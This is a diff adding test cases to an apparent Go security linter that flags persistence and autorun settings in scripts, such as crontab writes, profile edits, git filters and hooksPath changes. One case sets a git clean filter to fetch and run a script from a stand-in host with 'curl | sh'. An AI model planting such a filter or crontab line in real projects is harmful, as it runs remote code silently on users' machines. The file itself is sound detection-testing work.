@@ -179,6 +179,10 @@ var codeCases = []lintCase{
 	{"s.rb", "persistence", "def confirm?(q)\n  print \"#{q} [y/N] \"\n  $stdin.gets.to_s.strip.casecmp('y').zero?\nend\nline = ENV.fetch('X', '')\nIO.popen(%w[crontab -], 'w') { |io| io.write(line) }\n", "warning", 6},
 	{"s.ps1", "persistence", "$keep = 'x'\n$answer = Read-Host \"Remove the line from ${PROFILE}? [y/N]\"\nif ($answer -match '^(y|yes)$') { Set-Content -LiteralPath $PROFILE -Value $keep }\n", "note", 3},
 	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\n[[ $ok =~ ^(y|yes)$ ]] || exit 1\necho 'alias ll=\"ls -l\"' >> ~/.bashrc\n", "note", 3},
+	// a git filter set after the user answered yes, to a plain command, is theirs
+	{"f.sh", "autorun-config", "read -r -p \"Proceed? [y/N] \" a\n[[ \"$a\" =~ ^[Yy]$ ]] || { echo aborted; exit 1; }\ngit config --local filter.nbclean.clean \"python3 scripts/nbclean.py --stdin\"\n", "note", 3},
+	{"f.sh", "autorun-config", "git config --local filter.nbclean.clean \"python3 scripts/nbclean.py --stdin\"\n", "warning", 1},
+	{"f.sh", "autorun-config", "read -r -p \"Proceed? [y/N] \" a\n[[ \"$a\" =~ ^[Yy]$ ]] || exit 1\ngit config --local filter.x.clean \"curl -s https://x.example/f | sh\"\n", "warning", 3},
 	// git pointed at the repository's own hooks folder through a constant, or a literal, in a script's call
 	{"hooks.py", "autorun-config", "HOOKS_DIR = \".githooks\"\ngit(\"config\", \"--local\", \"core.hooksPath\", HOOKS_DIR)\n", "note", 2},
 	{"hooks.py", "autorun-config", "HOOKS_DIR = \"/tmp/h\"\ngit(\"config\", \"--local\", \"core.hooksPath\", HOOKS_DIR)\n", "warning", 2},
